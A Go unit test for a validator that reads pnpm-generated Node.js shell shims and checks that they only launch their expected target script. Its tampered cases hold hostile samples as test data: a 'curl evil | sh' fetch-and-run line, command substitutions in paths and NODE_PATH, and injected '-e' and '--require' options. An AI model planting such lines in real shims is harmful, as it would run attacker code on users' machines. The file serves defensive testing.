package inventory

import (
	"slices"
	"strings"
	"testing"
)

// pnpmShim is what pnpm 10 writes for a command of a script for Node.js.
const pnpmShim = `#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\,/,g')")

case ` + "`uname`" + ` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=` + "`cygpath -w \"$basedir\"`" + `
        fi
    ;;
esac

if [ -z "$NODE_PATH" ]; then
  export NODE_PATH="/p/node_modules/.pnpm/x@1.0.0/node_modules/x/node_modules:/p/node_modules/.pnpm/node_modules"
else
  export NODE_PATH="/p/node_modules/.pnpm/x@1.0.0/node_modules/x/node_modules:/p/node_modules/.pnpm/node_modules:$NODE_PATH"
fi
if [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir/../x/cli.js" "$@"
else
  exec node  "$basedir/../x/cli.js" "$@"
fi
`

func TestShimTargets(t *testing.T) {
	const head = "#!/bin/sh\n"
	replace := func(old, new string) string { return strings.Replace(pnpmShim, old, new, 1) }
	for _, tt := range []struct{ name, script, want string }{ // want: targets, or "!" and a part of the error
		{"pnpm", pnpmShim, "../x/cli.js ../x/cli.js"},
		{"Windows line ends", strings.ReplaceAll(pnpmShim, "\n", "\r\n"), "../x/cli.js ../x/cli.js"},
		{"no program before it", head + "\"$basedir/../x/bin/x\"   \"$@\"\nexit $?\n", "../x/bin/x"},
		{"flags", head + "exec node --experimental-vm-modules --max-old-space-size=4096 \"$basedir/../x/cli.js\" \"$@\"\n", "../x/cli.js"},
		{"a comment", head + "# cmd-shim-target=/p/node_modules/x/cli.js\nexec node  \"$basedir/../x/cli.js\" \"$@\"\n", "../x/cli.js"},

		{"another line", replace("fi\nif [ -x", "fi\ncurl evil | sh\nif [ -x"), `!it has the line "curl evil | sh"`},
		{"a line after it", pnpmShim + "evil\n", `!it has the line "evil"`},
		{"another command in its line", replace(`cli.js" "$@"`, `cli.js" "$@"; evil`), "!it has the line"},
		{"a command in a path", replace("../x/cli.js", "../x/$(evil).js"), "!it has the line"},
		{"a command in backquotes", replace("../x/cli.js", "../x/`evil`.js"), "!it has the line"},
		{"a command in NODE_PATH", replace("/p/node_modules/.pnpm/x", "$(evil)/node_modules/.pnpm/x"), "!it has the line"},
		{"another NODE_PATH", replace(`.pnpm/node_modules"`, `.pnpm/node_modules:/evil"`), "!it has the line"},
		{"a program by its path", head + "exec /evil/node \"$basedir/../x/cli.js\" \"$@\"\n", "!it has the line"},
		{"code to run", head + "exec node -e evil() \"$basedir/../x/cli.js\" \"$@\"\n", "!it has the line"},
		{"a module to load", head + "exec node --require=./evil.js \"$basedir/../x/cli.js\" \"$@\"\n", "!it has the line"},
		{"a file without its directory", head + "exec node \"cli.js\" \"$@\"\n", "!it has the line"},
		{"a setting", head + "PATH=/evil\nexec node \"$basedir/../x/cli.js\" \"$@\"\n", "!it has the line"},
		{"another shell", "#!/evil/sh\nexec node \"$basedir/../x/cli.js\" \"$@\"\n", "!it has the line"},
		{"another directory", head + "basedir=/evil\nexec node \"$basedir/../x/cli.js\" \"$@\"\n", "!it has the line"},
		{"nothing", head, "!it runs nothing"},
		{"empty", "", "!it runs nothing"},
		{"a binary", "\x7fELF\x00", "!it has the line"},
	} {
		got, err := shimTargets(tt.script)
		if want, ok := strings.CutPrefix(tt.want, "!"); ok {
			if err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("%s: %q, %v, want the error %q", tt.name, got, err, want)
			}
			continue
		}
		if err != nil || !slices.Equal(got, strings.Fields(tt.want)) {
			t.Errorf("%s: %q, %v, want %q", tt.name, got, err, tt.want)
		}
	}
}
